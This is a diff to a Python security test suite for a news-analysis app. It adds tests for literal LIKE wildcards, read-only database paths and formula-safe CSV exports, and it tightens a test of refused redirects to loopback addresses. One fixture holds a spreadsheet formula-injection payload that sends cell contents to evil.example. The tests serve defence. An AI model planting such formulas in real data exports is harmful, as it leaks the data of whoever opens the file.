@@ -15,7 +15,9 @@ of them reached a page as markup, the parser would see an element or attribute n
 from __future__ import annotations
 
 import asyncio
+import csv
 import hashlib
+import io
 import json
 import re
 import sqlite3
@@ -439,6 +441,51 @@ def test_injection_through_the_token_is_refused(hostile_db: Path) -> None:
     assert guarded.get("/api/stories", params={"token": "s3cret"}).status_code == 200
 
 
+def test_like_wildcards_in_filters_are_literal(hostile_db: Path) -> None:
+    """ "%" and "_" typed into an outlet or name filter match those characters, not anything."""
+    with Store(hostile_db, readonly=True) as store:
+        assert store.events(outlet="Sahel Wire", limit=100)  # a real substring still matches
+        for typed in ("%", "_", "Sahel_Wire", "%Wire", "\\", "\x00"):
+            assert store.events(outlet=typed, limit=100) == [], typed
+            assert store.find_actors(typed) == [], typed
+        assert store.events(actor="_", limit=100) == []
+
+
+def test_a_database_path_with_uri_characters_opens_read_only(hostile_db: Path, tmp_path: Path) -> None:
+    """A read-only store is opened through a file: URI; a "?" or "#" in the path must stay part of
+    the file name, not become a URI parameter that could drop the read-only mode."""
+    odd = tmp_path / "odd?mode=rw#x" / "news.db"
+    odd.parent.mkdir()
+    odd.write_bytes(hostile_db.read_bytes())
+    with Store(odd, readonly=True) as store:
+        assert store.stats()["articles"] == 3
+        with pytest.raises(sqlite3.OperationalError, match="readonly"):
+            store.db.execute("delete from articles")
+
+
+def test_csv_downloads_do_not_carry_spreadsheet_formulas(tmp_path: Path) -> None:
+    """A headline or outlet starting with = + - @ would run as a formula when an analyst opens
+    the download in a spreadsheet: such cells start with an apostrophe instead."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    text = article_text("Sunday", "Officials in Cotonou declined to comment.")
+    (tmp_path / "in.jsonl").write_text(
+        json.dumps({"title": formula, "text": text, "outlet": "@SUM(1+1)", "published": "2025-10-12"}) + "\n",
+        encoding="utf-8",
+    )
+    db = tmp_path / "formula.db"
+    with Store(db) as store:
+        assert ingest([str(tmp_path / "in.jsonl")], store, IngestOptions()).new == 1
+    client = TestClient(create_app(db))
+    for path in ("/api/search?q=Niger&format=csv", "/api/events?format=csv", "/api/stories?format=csv"):
+        response = client.get(path)
+        assert response.status_code == 200, path
+        cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
+        assert cells and not [c for c in cells if c.startswith(("=", "+", "@"))], path
+        if "search" in path:
+            assert "'" + formula in cells
+    assert client.get("/api/search?q=Niger").json()["hits"][0]["title"] == formula  # JSON is as written
+
+
 # --- path traversal ----------------------------------------------------------------------------------
 
 
@@ -670,10 +717,7 @@ def test_redirects_to_other_schemes_and_loopback_spellings_are_refused(site: int
             _Site.log = []
             with pytest.raises(FetchError) as caught:
                 client.get(f"http://127.0.0.1:{port}/r/{number}")
-            if "0177." in target:  # httpx itself refuses an octal address in a Location header
-                assert "Invalid" in caught.value.reason, caught.value.reason
-            else:
-                assert isinstance(caught.value, RefusedURL), (target, caught.value.reason)
+            assert isinstance(caught.value, RefusedURL), (target, caught.value.reason)
             assert "/secret" not in _Site.log, target  # nothing past the redirect was requested
 
 
